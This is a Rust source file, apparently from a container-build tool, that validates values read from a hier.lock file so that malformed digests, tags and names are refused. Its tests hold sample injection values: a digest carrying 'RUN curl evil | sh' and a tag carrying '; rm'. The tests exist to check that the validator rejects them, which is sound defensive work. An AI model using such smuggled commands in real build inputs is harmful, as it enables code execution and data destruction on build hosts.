@@ -1,0 +1,163 @@
+//! Nothing read from `hier.lock` is trusted before it is checked: every value hier later puts
+//! in a reference, a tag, a Dockerfile or a path must have the one shape it can have (an image
+//! id or digest is `sha256:` and 64 hex digits, a tag is a tag, a name is an image name, a
+//! repository is a repository). A lock edited by hand or by an attacker is refused at the
+//! offending value rather than built on.
+
+use crate::diagnostic::Diagnostic;
+use crate::name::ImageName;
+use crate::reference::{check_repository, is_tag};
+use crate::source::SourceFile;
+
+use super::{Lock, LockEntry};
+
+/// `sha256:` and 64 lower-case hex digits.
+pub fn is_digest(value: &str) -> bool {
+    value.strip_prefix("sha256:").is_some_and(|hex| {
+        hex.len() == 64
+            && hex
+                .bytes()
+                .all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(&b))
+    })
+}
+
+/// The first value of the lock that does not have its shape.
+pub fn check(lock: &Lock, source: &SourceFile) -> Result<(), Diagnostic> {
+    for (name, entry) in &lock.images {
+        if let Err(e) = ImageName::parse(name) {
+            return Err(bad(source, name, format!("image `{name}`: {e}")));
+        }
+        check_entry(entry)
+            .map_err(|(value, what)| bad(source, &value, format!("image `{name}`: {what}")))?;
+    }
+    Ok(())
+}
+
+/// The offending value and what is wrong with it.
+type Problem = (String, String);
+
+fn check_entry(e: &LockEntry) -> Result<(), Problem> {
+    let digest = |key: &str, value: &str| -> Result<(), Problem> {
+        if is_digest(value) {
+            Ok(())
+        } else {
+            Err((
+                value.to_string(),
+                format!(
+                    "`{key}` is `{}`, not a digest (`sha256:` and 64 hex digits)",
+                    printable(value)
+                ),
+            ))
+        }
+    };
+    digest("inputs", &e.inputs)?;
+    digest("fingerprint", &e.fingerprint)?;
+    digest("image_id", &e.image_id)?;
+    for (key, value) in [
+        ("parent_image_id", &e.parent_image_id),
+        ("upstream_digest", &e.upstream_digest),
+        ("packages", &e.packages),
+    ] {
+        if let Some(v) = value {
+            digest(key, v)?;
+        }
+    }
+    for (component, value) in &e.components {
+        digest(&format!("components.{component}"), value)?;
+    }
+    for (uses, id) in &e.uses_image_ids {
+        ImageName::parse(uses).map_err(|m| (uses.clone(), m))?;
+        digest(&format!("uses_image_ids.{uses}"), id)?;
+    }
+    for tag in &e.tags {
+        if !is_tag(tag) {
+            return Err((
+                tag.clone(),
+                format!("tag `{}` is not a tag", printable(tag)),
+            ));
+        }
+    }
+    for (repository, pushed) in &e.pushed {
+        check_repository(repository).map_err(|m| (repository.clone(), m))?;
+        digest(&format!("pushed.\"{repository}\""), pushed)?;
+    }
+    Ok(())
+}
+
+/// A value as it can be shown: control characters escaped.
+fn printable(value: &str) -> String {
+    value.escape_debug().to_string()
+}
+
+fn bad(source: &SourceFile, value: &str, message: String) -> Diagnostic {
+    let d = Diagnostic::error(format!("invalid lock file: {message}"))
+        .help("hier writes this file; restore it from version control, or delete it to rebuild everything");
+    // The value's place: where it is written in the file, escaped or as it is.
+    let candidates = [
+        format!("\"{}\"", value.escape_debug()),
+        format!("'{value}'"),
+        value.lines().next().unwrap_or_default().to_string(),
+    ];
+    let found = candidates
+        .iter()
+        .filter(|c| !c.is_empty())
+        .find_map(|c| source.text.find(c.as_str()).map(|at| at..at + c.len()));
+    match found {
+        Some(span) => d.at(source.locate(span)),
+        None => d.at_file(source.display.clone()),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const ID: &str = "sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";
+
+    fn lock(entry: &str) -> String {
+        format!(
+            "version = 1\n[images.base]\ninputs = \"{ID}\"\nfingerprint = \"{ID}\"\nbuilt_at = \"x\"\n{entry}\n"
+        )
+    }
+
+    fn parse(text: &str) -> Result<Lock, Diagnostic> {
+        Lock::parse(&SourceFile::new("hier.lock".into(), text.to_string()))
+    }
+
+    #[test]
+    fn a_well_formed_lock_passes() {
+        assert!(parse(&lock(&format!("image_id = \"{ID}\"\ntags = [\"1.0.0\"]"))).is_ok());
+    }
+
+    #[test]
+    fn a_value_that_could_inject_is_refused_at_its_place() {
+        let d = parse(&lock("image_id = \"sha256:x\\nRUN curl evil | sh\"")).unwrap_err();
+        assert_eq!(
+            d.message,
+            "invalid lock file: image `base`: `image_id` is `sha256:x\\nRUN curl evil | sh`, not a digest (`sha256:` and 64 hex digits)"
+        );
+        assert_eq!(d.place().unwrap(), "hier.lock:6:12");
+        let d = parse(&lock(&format!(
+            "image_id = \"{ID}\"\ntags = [\"1.0 ; rm\"]"
+        )))
+        .unwrap_err();
+        assert!(
+            d.message.contains("tag `1.0 ; rm` is not a tag"),
+            "{}",
+            d.message
+        );
+        let d = parse(&lock(&format!(
+            "image_id = \"{ID}\"\n[images.base.pushed]\n\"r/x\" = \"sha256:short\""
+        )))
+        .unwrap_err();
+        assert!(d.message.contains("`pushed.\"r/x\"`"), "{}", d.message);
+    }
+
+    #[test]
+    fn digests_are_sha256_and_64_lower_hex() {
+        assert!(is_digest(ID));
+        assert!(!is_digest(&ID.to_uppercase()));
+        assert!(!is_digest("sha256:abc"));
+        assert!(!is_digest(&ID.replace("sha256", "sha512")));
+    }
+}
